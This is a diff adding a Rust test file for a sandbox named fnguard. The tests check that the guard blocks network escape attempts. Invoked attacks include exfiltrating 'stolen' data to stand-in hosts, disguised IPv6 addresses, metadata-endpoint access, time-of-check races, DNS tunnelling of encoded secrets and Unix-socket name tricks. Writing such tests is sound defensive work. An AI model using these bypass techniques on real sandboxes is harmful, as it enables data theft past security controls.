@@ -1,0 +1,495 @@
+//! Reaching an address that no rule allows.
+
+use crate::attack::{ALLOWED, FORBIDDEN, Guard, NET, fresh, rounds, text, victim};
+use fnguard_attacks::program::Program;
+use fnguard_attacks::sink::{Tcp, Udp, Unix, UnixDatagrams};
+
+fnguard_attacks::tests! { "network":
+    connect, connect_by_descriptor_of_every_disguise, connect_length_of_rfc2133, connect_to_every_zero,
+    translated_forms_need_both, metadata, datagram, datagram_connect, datagram_reconnect, stream_reconnect,
+    address_exchanged_while_connecting, message_address_exchanged, descriptor_exchanged,
+    unspecified_family_is_an_address, unspecified_family_in_a_message, unspecified_bind,
+    v4_address_on_a_v6_socket, joined_datagram, joined_message, corked_datagram, segmented_datagram,
+    second_message_of_many, control_messages, descriptors_in_messages, fast_open, resolver_in_a_datagram,
+    pointer_with_a_low_half_of_zero, unix_by_every_name, unix_datagrams, listening, listening_without_bind,
+    unix_listening,
+}
+
+fn connect() {
+    let sink = Tcp::on(FORBIDDEN);
+    let to = sink.address.to_string();
+    let attack = victim(["connect-and-send", &to, "stolen"]);
+    attack.plain();
+    assert_eq!(sink.bytes(), [b"stolen"]);
+    let guarded = attack.under_guard(NET);
+    assert_eq!(sink.connections(), 0);
+    let record = guarded.only_record("network", "connect", &to);
+    assert_eq!(record["address"], to);
+    assert_eq!(record["rule"], "network.allow");
+    assert_eq!(guarded.said("connect"), -13);
+    // What is allowed goes on, and is not reported.
+    let allowed = Tcp::on(ALLOWED);
+    let guarded = victim(["connect-and-send", &allowed.address.to_string(), "honest"]).under_guard(NET);
+    assert_eq!(allowed.bytes(), [b"honest"]);
+    guarded.no_record();
+}
+
+/// IPv4 addresses as IPv6 spells them: mapped, and on a socket of the other family.
+fn connect_by_descriptor_of_every_disguise() {
+    let sink = Tcp::on(FORBIDDEN);
+    let port = sink.address.port();
+    let attack = victim(["connect", &format!("[::ffff:203.0.113.9]:{port}")]);
+    attack.plain();
+    assert_eq!(sink.connections(), 1);
+    let guarded = attack.under_guard(NET);
+    assert_eq!(sink.connections(), 0);
+    guarded.only_record("network", "connect", &format!("203.0.113.9:{port}"));
+    // The mapped form of an allowed address is that address.
+    let allowed = Tcp::on(ALLOWED);
+    let to = format!("[::ffff:198.51.100.7]:{}", allowed.address.port());
+    victim(["connect", &to]).under_guard(NET).no_record();
+    assert_eq!(allowed.connections(), 1);
+}
+
+/// The kernel takes an IPv6 address of 24 bytes, and one of up to 128.
+fn connect_length_of_rfc2133() {
+    let sink = Tcp::on("[2001:db8:bad::9]");
+    let to = sink.address.to_string();
+    for length in ["24", "28", "128"] {
+        let attack = victim(["connect-length", &to, length]);
+        attack.plain();
+        assert_eq!(sink.connections(), 1, "length {length}");
+        let guarded = attack.under_guard(NET);
+        assert_eq!(sink.connections(), 0, "length {length}");
+        guarded.only_record("network", "connect", &to);
+    }
+}
+
+/// 0.0.0.0 and :: are this machine.
+fn connect_to_every_zero() {
+    let (v4, v6) = (Tcp::on("127.0.0.1"), Tcp::on("[::1]"));
+    let (v4_port, v6_port) = (v4.address.port(), v6.address.port());
+    for (to, sink) in [
+        (format!("0.0.0.0:{v4_port}"), &v4),
+        (format!("[::ffff:0.0.0.0]:{v4_port}"), &v4),
+        (format!("[::]:{v6_port}"), &v6),
+        (format!("127.0.0.1:{v4_port}"), &v4),
+    ] {
+        let attack = victim(["connect", &to]);
+        attack.plain();
+        assert_eq!(sink.connections(), 1, "{to}");
+        let guarded = attack.under_guard(NET);
+        assert_eq!(sink.connections(), 0, "{to}");
+        guarded.only_record("network", "connect", &sink.address.to_string());
+    }
+    // A rule for loopback opens it by that name too, and a rule for 0.0.0.0/8 does not open loopback.
+    let rule = format!("[network]\nallow = [\"127.0.0.1:{v4_port}\"]\n");
+    victim(["connect", &format!("0.0.0.0:{v4_port}")]).under_guard(&rule).no_record();
+    assert_eq!(v4.connections(), 1);
+}
+
+/// NAT64 and 6to4 addresses are the IPv4 address that they embed, and themselves: both count.
+fn translated_forms_need_both() {
+    for address in ["64:ff9b::cb00:7109", "2002:cb00:7109::1"] {
+        let sink = Tcp::on(&format!("[{address}]"));
+        let port = sink.address.port();
+        let to = sink.address.to_string();
+        let attack = victim(["connect", &to]);
+        attack.plain();
+        assert_eq!(sink.connections(), 1, "{to}");
+        // The v6 form alone is not enough, since the packet ends at the IPv4 address.
+        let rule = format!("[network]\nallow = [\"[{address}]:{port}\"]\n");
+        let guarded = attack.under_guard(&rule);
+        assert_eq!(sink.connections(), 0, "{to}");
+        guarded.only_record("network", "connect", &port.to_string());
+        let rule = format!("[network]\nallow = [\"[{address}]:{port}\", \"203.0.113.9:{port}\"]\n");
+        attack.under_guard(&rule).no_record();
+        assert_eq!(sink.connections(), 1, "{to}");
+    }
+}
+
+fn metadata() {
+    let sink = Tcp::on("169.254.169.254");
+    let to = sink.address.to_string();
+    let attack = victim(["connect", &to]);
+    attack.plain();
+    assert_eq!(sink.connections(), 1);
+    attack.under_guard(NET).only_record("network", "connect", &to);
+    assert_eq!(sink.connections(), 0);
+}
+
+fn datagram() {
+    let sink = Udp::on(FORBIDDEN);
+    let to = sink.address.to_string();
+    for technique in ["sendto", "sendmsg"] {
+        let attack = victim([technique, &to, "stolen"]);
+        attack.plain();
+        assert_eq!(sink.datagrams(), [b"stolen"]);
+        let guarded = attack.under_guard(NET);
+        assert!(sink.datagrams().is_empty());
+        guarded.only_record("network", technique, &to);
+    }
+    let allowed = Udp::on(ALLOWED);
+    for technique in ["sendto", "sendmsg"] {
+        victim([technique, &allowed.address.to_string(), "honest"]).under_guard(NET).no_record();
+        assert_eq!(allowed.datagrams(), [b"honest"]);
+    }
+}
+
+fn datagram_connect() {
+    let sink = Udp::on(FORBIDDEN);
+    let to = sink.address.to_string();
+    let attack = victim(["connect-udp", &to, "stolen"]);
+    attack.plain();
+    assert_eq!(sink.datagrams(), [b"stolen"]);
+    let guarded = attack.under_guard(NET);
+    assert!(sink.datagrams().is_empty());
+    guarded.only_record("network", "connect", &to);
+    // A rule for TCP opens no UDP.
+    let rule = format!("[network]\nallow = [\"{to}\"]\n");
+    attack.under_guard(&rule).only_record("network", "connect", &to);
+    assert!(sink.datagrams().is_empty());
+}
+
+/// What was decided for one peer says nothing of the next.
+fn datagram_reconnect() {
+    let (first, second) = (Udp::on(ALLOWED), Udp::on(FORBIDDEN));
+    let attack = victim(["connect-twice", &first.address.to_string(), &second.address.to_string()]);
+    attack.plain();
+    assert_eq!((first.datagrams().len(), second.datagrams().len()), (1, 1));
+    let guarded = attack.under_guard(NET);
+    assert!(second.datagrams().is_empty());
+    // The refused call has changed nothing: what follows goes to the first peer.
+    assert_eq!(first.datagrams(), [b"one", b"two"]);
+    guarded.only_record("network", "connect", &second.address.to_string());
+}
+
+fn stream_reconnect() {
+    let (first, second) = (Tcp::on(ALLOWED), Tcp::on(FORBIDDEN));
+    let attack = victim(["connect-unspec", &first.address.to_string(), &second.address.to_string()]);
+    attack.plain();
+    assert_eq!((first.connections(), second.connections()), (1, 1));
+    let guarded = attack.under_guard(NET);
+    assert_eq!((first.connections(), second.connections()), (1, 0));
+    guarded.only_record("network", "connect", &second.address.to_string());
+}
+
+/// Runs a race unguarded until it is won: on a busy machine the two threads may not meet in one
+/// run of a few milliseconds.
+fn until_it_wins(attack: &Program, won: impl Fn() -> bool) -> bool {
+    (0..50).any(|_| {
+        attack.plain();
+        won()
+    })
+}
+
+/// Under a guard that lets the call go on after it has looked, this wins: see `notifications`.
+fn address_exchanged_while_connecting() {
+    let (allowed, forbidden) = (Udp::on(ALLOWED), Udp::on(FORBIDDEN));
+    let rounds = rounds().to_string();
+    let attack =
+        victim(["connect-flip", &allowed.address.to_string(), &forbidden.address.to_string(), &rounds])
+            .limit(std::time::Duration::from_secs(300));
+    let plain = until_it_wins(&attack, || !forbidden.datagrams().is_empty());
+    assert!(plain, "unguarded it reaches both");
+    allowed.datagrams();
+    let guarded = attack.under_guard(NET);
+    assert!(forbidden.datagrams().is_empty());
+    assert!(guarded.said("went") > 0 && guarded.said("refused") > 0, "{}", guarded.text());
+    guarded.one_record("network", "connect", &forbidden.address.to_string());
+}
+
+fn message_address_exchanged() {
+    let (allowed, forbidden) = (Udp::on(ALLOWED), Udp::on(FORBIDDEN));
+    let rounds = rounds().to_string();
+    let attack =
+        victim(["sendmsg-flip", &allowed.address.to_string(), &forbidden.address.to_string(), &rounds])
+            .limit(std::time::Duration::from_secs(300));
+    assert!(until_it_wins(&attack, || !forbidden.datagrams().is_empty()), "unguarded it reaches both");
+    allowed.datagrams();
+    let guarded = attack.under_guard(NET);
+    assert!(forbidden.datagrams().is_empty());
+    assert!(!allowed.datagrams().is_empty());
+    guarded.one_record("network", "sendmsg", &forbidden.address.to_string());
+}
+
+/// One address, allowed for datagrams only, and a descriptor that is now of one kind and now of
+/// the other: the copy that was looked at is the one that is connected.
+fn descriptor_exchanged() {
+    let sink = Tcp::on(FORBIDDEN);
+    let to = sink.address.to_string();
+    let _udp = Udp::at(&to);
+    let attack = victim(["connect-descriptor-flip", &to, &to, &rounds().to_string()])
+        .limit(std::time::Duration::from_secs(300));
+    assert!(until_it_wins(&attack, || sink.connections() > 0), "unguarded it connects");
+    let rule = format!("[network]\nallow = [\"udp/{to}\"]\n");
+    let guarded = attack.under_guard(&rule);
+    assert_eq!(sink.connections(), 0);
+    assert!(guarded.said("went") > 0, "the datagram half is allowed\n{}", guarded.text());
+}
+
+/// In a datagram AF_UNSPEC is AF_INET to the kernel.
+fn unspecified_family_is_an_address() {
+    let sink = Udp::on(FORBIDDEN);
+    let to = sink.address.to_string();
+    let attack = victim(["sendto-unspec", &to, "stolen"]);
+    attack.plain();
+    assert_eq!(sink.datagrams(), [b"stolen"]);
+    let guarded = attack.under_guard(NET);
+    assert!(sink.datagrams().is_empty());
+    guarded.only_record("network", "sendto", &to);
+}
+
+fn unspecified_family_in_a_message() {
+    let sink = Udp::on(FORBIDDEN);
+    let to = sink.address.to_string();
+    let attack = victim(["sendmsg-unspec", &to, "stolen"]);
+    attack.plain();
+    assert_eq!(sink.datagrams(), [b"stolen"]);
+    attack.under_guard(NET).only_record("network", "sendmsg", &to);
+    assert!(sink.datagrams().is_empty());
+}
+
+fn unspecified_bind() {
+    let attack = victim(["bind-unspec"]);
+    assert_eq!(attack.plain().said("port"), 4555);
+    let guarded = attack.under_guard(NET);
+    assert_ne!(guarded.said("port"), 4555);
+    guarded.only_record("network", "bind", "4555");
+}
+
+fn v4_address_on_a_v6_socket() {
+    let sink = Udp::on(FORBIDDEN);
+    let to = sink.address.to_string();
+    let attack = victim(["v4-on-v6", &to, "stolen"]);
+    attack.plain();
+    assert_eq!(sink.datagrams(), [b"stolen"]);
+    attack.under_guard(NET).only_record("network", "sendto", &to);
+    assert!(sink.datagrams().is_empty());
+}
+
+/// To an allowed peer, but with bytes that nobody looked at: for a resolver that is a way out.
+fn joined_datagram() {
+    let sink = Udp::on(ALLOWED);
+    let to = sink.address.to_string();
+    let attack = victim(["more", &to]);
+    attack.plain();
+    assert_eq!(sink.datagrams(), [b"CHECKED|unchecked"]);
+    let guarded = attack.under_guard(NET);
+    assert!(!sink.datagrams().iter().any(|datagram| datagram.ends_with(b"|unchecked")), "{}", guarded.text());
+    guarded.only_record("network", "sendto", "MSG_MORE");
+}
+
+fn joined_message() {
+    let sink = Udp::on(ALLOWED);
+    let to = sink.address.to_string();
+    let attack = victim(["more-by-message", &to]);
+    attack.plain();
+    assert_eq!(sink.datagrams(), [b"CHECKED|unchecked"]);
+    let guarded = attack.under_guard(NET);
+    assert!(!sink.datagrams().iter().any(|datagram| datagram.ends_with(b"|unchecked")), "{}", guarded.text());
+    guarded.only_record("network", "sendmsg", "MSG_MORE");
+}
+
+fn corked_datagram() {
+    let sink = Udp::on(ALLOWED);
+    let attack = victim(["cork", &sink.address.to_string()]);
+    attack.plain();
+    assert_eq!(sink.datagrams(), [b"CHECKED|unchecked"]);
+    let guarded = attack.under_guard(NET);
+    assert_eq!(sink.datagrams(), [b"CHECKED|"]);
+    // On, and off again: the same target.
+    guarded.one_record("network", "setsockopt", "level 17, option 1");
+}
+
+fn segmented_datagram() {
+    let sink = Udp::on(ALLOWED);
+    let attack = victim(["segment", &sink.address.to_string()]);
+    attack.plain();
+    assert_eq!(sink.datagrams().len(), 3);
+    let guarded = attack.under_guard(NET);
+    assert_eq!(sink.datagrams(), [b"aaaabbbbcccc"]);
+    guarded.only_record("network", "setsockopt", "option 103");
+}
+
+/// The first is allowed, so that the call goes on to the second.
+fn second_message_of_many() {
+    let (allowed, forbidden) = (Udp::on(ALLOWED), Udp::on(FORBIDDEN));
+    let (good, bad) = (allowed.address.to_string(), forbidden.address.to_string());
+    let attack = victim(["sendmmsg", &good, &bad, &good]);
+    assert_eq!(attack.plain().said("sendmmsg"), 3);
+    assert_eq!((allowed.datagrams().len(), forbidden.datagrams().len()), (2, 1));
+    let guarded = attack.under_guard(NET);
+    assert_eq!((allowed.datagrams().len(), forbidden.datagrams().len()), (1, 0));
+    assert_eq!(guarded.said("sendmmsg"), 1, "it stops where the kernel would");
+    guarded.only_record("network", "sendmmsg", &bad);
+}
+
+/// Control data that chooses a source, a route, other boundaries.
+fn control_messages() {
+    let sink = Udp::on(ALLOWED);
+    let to = sink.address.to_string();
+    for (what, kind) in
+        [("pktinfo", "type 8"), ("retopts", "type 7"), ("segment", "type 103"), ("hidden", "type 8")]
+    {
+        let attack = victim(["control", &to, what]);
+        let plain = attack.plain();
+        assert!(!sink.datagrams().is_empty(), "{what}: {}", plain.text());
+        let guarded = attack.under_guard(NET);
+        assert!(sink.datagrams().is_empty(), "{what}");
+        guarded.only_record("network", "sendmsg", kind);
+    }
+    // A header field of the packet's own is honest.
+    victim(["control", &to, "tos"]).under_guard(NET).no_record();
+    assert_eq!(sink.datagrams(), [b"with control"]);
+}
+
+/// Numbers in SCM_RIGHTS would be looked up in the arbiter's table.
+fn descriptors_in_messages() {
+    let path = fresh("rights.sock");
+    let sink = UnixDatagrams::at(&path);
+    let rule = format!("[network]\nallow = [\"unix:{}\"]\n", text(&path));
+    let attack = victim(["rights", text(&path)]);
+    let plain = attack.plain();
+    assert!(!sink.datagrams().is_empty(), "{}", plain.text());
+    let guarded = attack.under_guard(&rule);
+    assert!(sink.datagrams().is_empty(), "{}", guarded.text());
+    guarded.only_record("network", "sendmsg", "level 1, type 1");
+}
+
+fn fast_open() {
+    let sink = Tcp::on(FORBIDDEN);
+    let to = sink.address.to_string();
+    let attack = victim(["fast-open", &to, "stolen"]);
+    attack.plain();
+    assert_eq!(sink.bytes(), [b"stolen"]);
+    let guarded = attack.under_guard(NET);
+    assert_eq!(sink.connections(), 0);
+    guarded.one_record("network", "sendto", &to);
+    guarded.one_record("network", "setsockopt", "level 6, option 30");
+}
+
+/// A query that carries what it wants to carry, to a resolver of the attacker's.
+fn resolver_in_a_datagram() {
+    let sink = Udp::at(&format!("{FORBIDDEN}:53"));
+    let to = sink.address.to_string();
+    let attack = victim(["resolver", &to, "c2VjcmV0.tunnel.example"]);
+    attack.plain();
+    assert_eq!(sink.datagrams().len(), 2);
+    // Even where the policy lets the function send there.
+    for policy in [NET, &format!("[network]\nallow = [\"udp/{to}\"]\n")] {
+        let guarded = attack.under_guard(policy);
+        assert!(sink.datagrams().is_empty(), "{}", guarded.text());
+        guarded.only_record("network", "lookup", "c2vjcmv0.tunnel.example");
+    }
+}
+
+fn pointer_with_a_low_half_of_zero() {
+    let sink = Udp::on(FORBIDDEN);
+    let to = sink.address.to_string();
+    let attack = victim(["pointer-high-bits", &to, "stolen"]);
+    attack.plain();
+    assert_eq!(sink.datagrams(), [b"stolen"]);
+    let guarded = attack.under_guard(NET);
+    assert!(sink.datagrams().is_empty());
+    guarded.only_record("network", "sendto", &to);
+}
+
+/// One socket by all its names, and abstract ones by bytes and length.
+fn unix_by_every_name() {
+    let path = fresh("daemon.sock");
+    let sink = Unix::at(&path);
+    let link = fresh("link.sock");
+    std::os::unix::fs::symlink(&path, &link).expect("a link");
+    let spelled = format!("/proc/self/root{}", text(&path));
+    let dotted = text(&path).replacen("/tmp/", "/tmp/../tmp/./", 1);
+    let doubled = text(&path).replacen("/tmp/", "//tmp//", 1);
+    for name in [text(&path), text(&link), &spelled, &dotted, &doubled] {
+        let attack = victim(["unix-stream", name]);
+        attack.plain();
+        assert_eq!(sink.connections(), 1, "{name}");
+        let guarded = attack.under_guard(NET);
+        assert_eq!(sink.connections(), 0, "{name}");
+        assert_eq!(guarded.records("violation").len(), 1, "{name}\n{}", guarded.text());
+    }
+    // The rule names the socket; a link to it leads to the same, and is allowed.
+    let rule = format!("[network]\nallow = [\"unix:{}\"]\n", text(&path));
+    for name in [text(&path), text(&link), &dotted] {
+        victim(["unix-stream", name]).under_guard(&rule).no_record();
+        assert_eq!(sink.connections(), 1, "{name}");
+    }
+    // A link whose name the policy has, to a socket that it has not.
+    let rule = format!("[network]\nallow = [\"unix:{}\"]\n", text(&link));
+    victim(["unix-stream", text(&link)]).under_guard(&rule).one_record("network", "connect", text(&path));
+    assert_eq!(sink.connections(), 0);
+
+    let name = format!("fnguard-attack-{}", std::process::id());
+    let (sink, longer) = (Unix::named(name.as_bytes()), Unix::named(format!("{name}\0").as_bytes()));
+    let attack = victim(["unix-stream", &format!("@{name}")]);
+    attack.plain();
+    assert_eq!(sink.connections(), 1);
+    attack.under_guard(NET).only_record("network", "connect", &name);
+    assert_eq!(sink.connections(), 0);
+    let rule = format!("[network]\nallow = [\"unix:@{name}\"]\n");
+    attack.under_guard(&rule).no_record();
+    assert_eq!(sink.connections(), 1);
+    // The same name with a NUL behind it is another.
+    let attack = victim(["unix-stream", &format!("@{name}\\0")]);
+    attack.plain();
+    assert_eq!(longer.connections(), 1);
+    attack.under_guard(&rule).only_record("network", "connect", &name);
+    assert_eq!(longer.connections(), 0);
+}
+
+fn unix_datagrams() {
+    let path = fresh("log.sock");
+    let sink = UnixDatagrams::at(&path);
+    let attack = victim(["unix-datagram", text(&path), "stolen"]);
+    attack.plain();
+    assert_eq!(sink.datagrams(), [b"stolen"]);
+    attack.under_guard(NET).only_record("network", "sendto", text(&path));
+    assert!(sink.datagrams().is_empty());
+    let rule = format!("[network]\nallow = [\"unix:{}\"]\n", text(&path));
+    attack.under_guard(&rule).no_record();
+    assert_eq!(sink.datagrams(), [b"stolen"]);
+}
+
+fn listening() {
+    for at in ["127.0.0.1:4556", "0.0.0.0:4557"] {
+        let attack = victim(["bind-listen", at]);
+        let plain = attack.plain();
+        assert_eq!(plain.list("open"), ["true"], "{}", plain.text());
+        let guarded = attack.under_guard(NET);
+        assert_eq!(guarded.list("open"), ["false"]);
+        guarded.one_record("network", "bind", at.rsplit(':').next().expect("a port"));
+        assert!(guarded.said("bind") < 0);
+    }
+}
+
+/// The kernel's own list says how many listen.
+fn listening_without_bind() {
+    let attack = victim(["listen-unbound"]);
+    assert_eq!(attack.plain().said("listeners"), 1);
+    let guarded = attack.under_guard(NET);
+    assert_eq!(guarded.said("listeners"), 0, "{}", guarded.text());
+    guarded.only_record("network", "listen", "0");
+}
+
+/// The arbiter, which would make the socket, is held by no Landlock domain: the rules are.
+fn unix_listening() {
+    let folder = fresh("closed");
+    std::fs::create_dir(&folder).expect("a directory");
+    let path = folder.join("backdoor.sock");
+    let attack = victim(["unix-listen", text(&path)]);
+    attack.plain();
+    assert!(path.exists());
+    std::fs::remove_file(&path).expect("it is there");
+    // Allowed to listen there, but not to write there.
+    let policy = format!("[network]\nlisten = [\"unix:{}\"]\n[files]\nwrite = []\n", text(&path));
+    let guarded = attack.under_guard(&policy);
+    assert!(!path.exists(), "{}", guarded.text());
+    guarded.one_record("files", "bind", text(&path));
+    let guarded = attack.under_guard(NET);
+    assert!(!path.exists());
+    guarded.one_record("network", "bind", text(&path));
+}
